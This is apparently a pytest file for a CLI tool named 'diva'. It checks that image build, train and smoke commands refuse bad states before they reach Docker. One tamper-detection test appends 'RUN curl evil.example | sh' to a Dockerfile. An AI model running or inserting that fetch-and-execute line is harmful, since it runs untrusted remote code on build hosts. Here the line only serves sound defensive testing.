"""The image commands' checks before any engine work, and their errors without an engine:
`diva build`, `diva train` and `diva smoke` run in a compiled copy of the e2e fixture. The
real engine and registry are exercised in tests/images/."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest

from tests.support.commands import FIXTURE, assert_clean_error, diva


def project(tmp_path: Path, stage: str = "large", *, registry: bool = False) -> Path:
    """The e2e fixture at ``stage``, compiled, with a requirements.txt."""
    root = tmp_path / "tiny"
    shutil.copytree(FIXTURE, root)
    spec = (root / "diva.yaml").read_text().replace("stage: small", f"stage: {stage}")
    if registry:
        spec = spec.replace("platform:\n", "platform:\n  image_registry: 127.0.0.1:5999/t\n")
    (root / "diva.yaml").write_text(spec)
    (root / "requirements.txt").write_text("scikit-learn\n")
    compiled = diva(root, "compile")
    assert compiled.returncode == 0, compiled.stderr
    return root


# --- refusals before the engine is asked ---------------------------------------------


def test_no_training_image_before_stage_3(tmp_path: Path) -> None:
    root = project(tmp_path, "small")
    assert not (root / "docker").exists()
    assert_clean_error(diva(root, "build", "train"), 2, "the train image comes with stage 3")


def test_no_serving_image_before_stage_4(tmp_path: Path) -> None:
    root = project(tmp_path)
    assert_clean_error(diva(root, "build", "serve"), 2, "the serve image comes with stage 4")


def test_an_edited_dockerfile_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path)
    dockerfile = root / "docker" / "train.Dockerfile"
    dockerfile.write_text(dockerfile.read_text() + "RUN curl evil.example | sh\n")
    assert_clean_error(
        diva(root, "build", "train"), 2, "docker/train.Dockerfile is not what diva.yaml compiles to"
    )


def test_a_missing_dockerfile_asks_for_compile(tmp_path: Path) -> None:
    root = project(tmp_path)
    (root / "docker" / "train.Dockerfile").unlink()
    assert_clean_error(diva(root, "build", "train"), 2, "does not exist: run `diva compile`")


def test_missing_requirements_are_refused(tmp_path: Path) -> None:
    root = project(tmp_path)
    (root / "requirements.txt").unlink()
    assert_clean_error(diva(root, "build", "train"), 2, "requirements.txt does not exist")


def test_push_needs_a_registry(tmp_path: Path) -> None:
    root = project(tmp_path)
    assert_clean_error(
        diva(root, "build", "train", "--push"), 2, "--push needs platform.image_registry"
    )


def test_version_and_alias_exclude_each_other(tmp_path: Path) -> None:
    root = project(tmp_path)
    result = diva(root, "build", "serve", "--model-version", "1", "--alias", "champion")
    assert_clean_error(result, 2, "--model-version and --alias exclude each other")


def test_smoke_without_a_recorded_image_asks_for_one(tmp_path: Path) -> None:
    root = project(tmp_path)
    assert_clean_error(diva(root, "smoke"), 2, "no serving image recorded")


# --- no engine -----------------------------------------------------------------------


def test_no_docker_client_is_exit_4(tmp_path: Path) -> None:
    root = project(tmp_path)
    python_only = tmp_path / "bin"
    python_only.mkdir()
    (python_only / "python").symlink_to(sys.executable)
    result = diva(root, "build", "train", env={"PATH": str(python_only)})
    assert_clean_error(result, 4, "no `docker` client on PATH")


@pytest.mark.skipif(shutil.which("docker") is None, reason="needs the docker client")
def test_an_unreachable_engine_is_exit_4(tmp_path: Path) -> None:
    root = project(tmp_path)
    result = diva(root, "build", "train", env={"DOCKER_HOST": f"unix://{tmp_path}/none.sock"})
    assert_clean_error(result, 4, "no Docker engine is reachable")
    assert "DOCKER_HOST" in result.stderr


@pytest.mark.skipif(shutil.which("docker") is None, reason="needs the docker client")
def test_train_without_an_engine_is_exit_4(tmp_path: Path) -> None:
    root = project(tmp_path)
    result = diva(root, "train", env={"DOCKER_HOST": f"unix://{tmp_path}/none.sock"})
    assert_clean_error(result, 4, "no Docker engine is reachable")
